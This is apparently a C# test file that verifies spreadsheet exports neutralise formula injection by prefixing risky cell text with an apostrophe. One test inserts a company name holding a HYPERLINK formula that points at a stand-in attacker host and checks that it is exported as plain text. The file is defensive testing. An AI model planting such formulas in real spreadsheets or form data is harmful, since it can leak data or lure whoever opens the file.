using System.Net;
using System.Text.RegularExpressions;
using Mamori.Tests.Infrastructure;
using Mamori.Web.Infrastructure;
using Mamori.Web.Security;
using MiniExcelLibs;

namespace Mamori.Tests.Transfer;

/// <summary>Issue #19, failure 8: formula-looking text from the public form (<c>=HYPERLINK(…)</c>) reached XLSX
/// exports unguarded. Every export now goes through <see cref="XlsxFiles"/>, which writes such text with a leading
/// apostrophe (OWASP's guidance); the imports take exactly that apostrophe off again (round trip in YearWorkbookTests).</summary>
public sealed partial class FormulaInjectionTests(AppFixture fixture) : IClassFixture<AppFixture>
{
    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+81 3 1234 5678", "'+81 3 1234 5678")]
    [InlineData("-", "'-")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("'=x", "''=x")]
    [InlineData("'abc", "'abc")]
    [InlineData("株式会社=テスト", "株式会社=テスト")]
    [InlineData(" =x", " =x")]
    [InlineData("", "")]
    public void Text_is_guarded_only_where_a_spreadsheet_could_evaluate_it_and_unguarding_restores_it(string text, string written)
    {
        Assert.Equal(written, SpreadsheetText.Guard(text));
        Assert.Equal(text, SpreadsheetText.Unguard(SpreadsheetText.Guard(text)));
    }

    [Theory, SqliteData]
    public async Task A_company_name_that_looks_like_a_formula_is_exported_as_text(string provider)
    {
        var app = await fixture.GetAsync(provider);
        var token = TestData.Unique();
        var name = $"=HYPERLINK(\"http://attacker.example/{token}\",\"詳細\")";
        await app.CompanyAsync(name: name);
        using var client = await app.ClientAsAsync(Roles.Coordinator);

        var response = await client.GetAsync($"/Companies?q={Uri.EscapeDataString(token)}&handler=Export");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var stream = await response.Content.ReadAsStreamAsync();
        var row = Assert.Single(stream.Query(useHeaderRow: true).Cast<IDictionary<string, object>>());
        Assert.Equal("'" + name, row["企業名"]);
    }

    /// <summary>The guard holds for exports added later only if none writes XLSX past <see cref="XlsxFiles"/>.</summary>
    [Fact]
    public void No_code_writes_a_workbook_except_through_XlsxFiles()
    {
        var root = Path.GetFullPath(Path.Combine(Path.GetDirectoryName(ThisFile())!, "../../../src"));
        var writers = Directory.EnumerateFiles(root, "*.cs", SearchOption.AllDirectories)
            .Where(f => !f.Contains("/obj/", StringComparison.Ordinal) && !f.Contains("/bin/", StringComparison.Ordinal))
            .Where(f => SaveAs().IsMatch(File.ReadAllText(f)))
            .Select(f => Path.GetRelativePath(root, f).Replace('\\', '/'))
            .ToList();
        Assert.Equal(["Mamori.Web/Infrastructure/XlsxFiles.cs"], writers);
    }

    private static string ThisFile([System.Runtime.CompilerServices.CallerFilePath] string path = "") => path;

    [GeneratedRegex(@"\.SaveAs(Async)?\(|MiniExcel\.SaveAs")]
    private static partial Regex SaveAs();
}
